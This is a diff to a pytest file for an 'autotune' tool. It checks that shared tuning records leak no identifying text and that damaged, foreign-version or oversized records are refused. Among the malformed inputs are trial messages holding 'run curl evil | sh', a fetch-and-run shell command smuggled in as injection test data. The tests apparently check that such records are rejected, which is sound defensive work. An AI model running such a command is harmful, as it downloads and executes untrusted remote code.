@@ -1,5 +1,6 @@
 """What a record holds, what never enters one, and that what is altered is refused."""
 
+import contextlib
 import json
 from collections.abc import Iterator
 from datetime import date
@@ -12,12 +13,14 @@ from pydantic import ValidationError
 
 from autotune.errors import InvalidInput
 from autotune.hardware.catalogue import catalogue, profile_of_gpu
-from autotune.schema import Candidate, Gate, HardwareProfile, ModelSpec, Provenance, TrainingPlan
+from autotune.schema import Candidate, Frozen, Gate, HardwareProfile, ModelSpec, Provenance, TrainingPlan, Versions
 from autotune.sharing.files import KEY
+from autotune.sharing.plausibility import implausible
 from autotune.sharing.record import (
     MAX_RECORD_BYTES,
     MAX_TRIALS,
     DamagedRecord,
+    ForeignRecord,
     canonical,
     name_of,
     parse_record,
@@ -77,6 +80,55 @@ def test_nothing_that_tells_who_or_where_enters_a_record() -> None:
     assert (made.expected.price_per_hour, made.expected.other_seconds, made.expected.phases) == (None, 0.0, ())
 
 
+def test_of_every_text_that_a_plan_and_a_machine_hold_only_names_of_things_in_shops_and_packages_leave() -> None:
+    """Each text field gets a text of its own. Versions come from packages, knobs' values and shapes from autotune."""
+    here = _planted(betraying_machine(), "machine")
+    made = _planted(betraying_plan(here), "plan", but="frozen")
+    frozen = _planted(made.frozen, "frozen", but="hardware settings trials")
+    frozen = frozen.changed(trials=tuple(_planted(one, "trial", but="candidate") for one in frozen.trials))
+    planned = made.model_copy(update={"frozen": frozen})
+    assert planned.model_dump_json().count(CANARY) > 20
+    assert here.model_dump_json().count(CANARY) > 30
+    leaves = _texts(json.loads(record_of(planned, here).content))
+    left = {path for path, text in leaves if CANARY in text}
+    assert left == {
+        *(f"machine.versions.{name}" for name in Versions.model_fields),
+        *("machine.device_name", "machine.rates.name", "autotune_version"),
+        *("machine.hard_keys.torch", "machine.hard_keys.cuda"),
+        *("workload.model.family", "workload.model.architecture", "workload.model.name", "workload.targets"),
+    }
+    assert dict(leaves)["workload.model.name"] == f"{CANARY} frozen.workload.model.family", "not the folder's name"
+
+
+CANARY = "canary"
+
+
+def _planted(thing: Any, path: str, but: str = "") -> Any:
+    """The same with a text that tells its place in every field that takes any."""
+    for name, value in dict(thing).items():
+        place = f"{path}.{name}"
+        if name in but.split():
+            continue
+        if value is None or isinstance(value, str):
+            with contextlib.suppress(ValidationError):
+                thing = thing.changed(**{name: f"{CANARY} {place}"})
+        elif isinstance(value, Frozen):
+            thing = thing.model_copy(update={name: _planted(value, place)})
+        elif isinstance(value, tuple) and value and isinstance(value[0], str):
+            thing = thing.model_copy(update={name: (f"{CANARY} {place}",)})
+        elif isinstance(value, tuple) and value and isinstance(value[0], Frozen):
+            thing = thing.model_copy(update={name: tuple(_planted(one, place) for one in value)})
+    return thing
+
+
+def _texts(data: Any, path: str = "") -> list[tuple[str, str]]:
+    if isinstance(data, dict):
+        return [leaf for key, value in data.items() for leaf in _texts(value, f"{path}.{key}" if path else key)]
+    if isinstance(data, list):
+        return [leaf for value in data for leaf in _texts(value, path)]
+    return [(path, data)] if isinstance(data, str) else []
+
+
 def test_a_new_field_is_judged_before_it_leaves() -> None:
     """Whoever adds a field to what records hold: can it tell who or where? Then keep it out in `record.py`."""
     knobs = {f"{place}.{name}" for place in ("settings", "trials.candidate") for name in Candidate.model_fields}
@@ -84,7 +136,7 @@ def test_a_new_field_is_judged_before_it_leaves() -> None:
 
 
 _LEAVES = """
-    autotune_version calibration measured_on schema_version search_seconds
+    autotune_version calibration conclusive measured_on schema_version search_seconds
     expected.evidence expected.images_per_second expected.other_seconds expected.peak_memory_bytes expected.phases
     expected.price_per_hour expected.process_memory_bytes expected.step_seconds
     machine.budget_bytes machine.device_name machine.hard_keys.compute_capability
@@ -122,7 +174,7 @@ def _paths(data: Any, prefix: str = "") -> Iterator[str]:
 
 def test_failures_are_shared_too_and_every_trial_keeps_its_numbers() -> None:
     made = record()
-    assert [t.outcome for t in made.trials] == ["ok", "ok", "oom"]
+    assert [t.outcome for t in made.trials] == ["ok", "ok", "oom", "ok"]
     assert [t.step_seconds for t in made.trials] == [t.step_seconds for t in TRIALS]
     assert made.trials[0].load_seconds == 3.0
 
@@ -204,7 +256,9 @@ def _changed(**changes: object) -> bytes:
         _changed(machine__total_memory_bytes=10**400), _changed(machine__hard_keys={"k" * 200: "v"}),
         _changed(trials=json.loads(record().content)["trials"] * MAX_TRIALS), _changed(expected__evidence="predicted"),
         _changed(settings__micro_batch_size=3), _changed(trials__0__outcome="splendid"),
-        _changed(trials__0__message="\n\nerror: run curl evil | sh"),
+        _changed(trials__0__message="\n\nerror: run curl evil | sh"), _changed(trials__2__message="run curl evil | sh"),
+        _changed(trials__0__final_loss=0.25),
+        _changed(trials__0__phases=[{"name": "x", "seconds": 1.0, "device_bytes": 1, "host_bytes": 1}]),
     ],
 )  # fmt: skip
 def test_whatever_is_no_record_is_refused_and_named(content: bytes) -> None:
@@ -213,6 +267,53 @@ def test_whatever_is_no_record_is_refused_and_named(content: bytes) -> None:
         parse_record(content, name)
     assert caught.value.message.isprintable()
     assert len(caught.value.message) < 400
+
+
+def test_a_whole_record_of_another_version_is_told_from_a_damaged_one() -> None:
+    content = _changed(autotune_version="9.1.0", schema_version=2)
+    with pytest.raises(ForeignRecord, match=r"written by autotune 9\.1\.0, and this is 0\.1\.0"):
+        parse_record(content, name_of(content))
+    own = _changed(schema_version=2)
+    with pytest.raises(DamagedRecord) as caught:
+        parse_record(own, name_of(own))
+    assert not isinstance(caught.value, ForeignRecord)
+
+
+@pytest.mark.parametrize(
+    ("changes", "conclusive"),
+    [
+        ({}, True),
+        ({"pins": (("quantization", "none"),)}, False),
+        ({"exclusions": (("attention", "native"),)}, False),
+        ({"trials": TRIALS[:3]}, False),  # e.g. --max-trials 3
+        ({"trials": TRIALS[1:2], "records": ("0" * 64,)}, True),  # it verified a record
+        (
+            {"trials": (TRIALS[1], TRIALS[1].model_copy(update={"confirms": True})), "records": ("0" * 64,)},
+            False,  # it started from a record, and was cut short
+        ),
+    ],
+)
+def test_a_search_that_its_user_limited_answers_nobody_elses_question(
+    changes: dict[str, object], conclusive: bool
+) -> None:
+    made = plan(machine())
+    limited = made.model_copy(update={"frozen": made.frozen.model_copy(update=changes)})
+    assert record_of(limited, machine()).conclusive == conclusive
+
+
+def test_a_plan_of_more_trials_than_a_record_holds_is_refused_in_words() -> None:
+    made = plan(machine())
+    long = made.model_copy(update={"frozen": made.frozen.model_copy(update={"trials": TRIALS * 200})})
+    with pytest.raises(InvalidInput, match="over 512 trials"):
+        record_of(long, machine())
+
+
+def test_what_several_processes_shared_unevenly_can_be_true() -> None:
+    made = plan(machine(), workload(effective_batch_size=5))
+    two = made.frozen.hardware.model_copy(update={"num_processes": 2, "strategy": "ddp"})
+    shared = record_of(made.model_copy(update={"frozen": made.frozen.model_copy(update={"hardware": two})}), machine())
+    assert shared.workload.effective_batch_size == 2
+    assert implausible(shared) == ()
 
 
 def test_the_day_is_part_of_it() -> None:
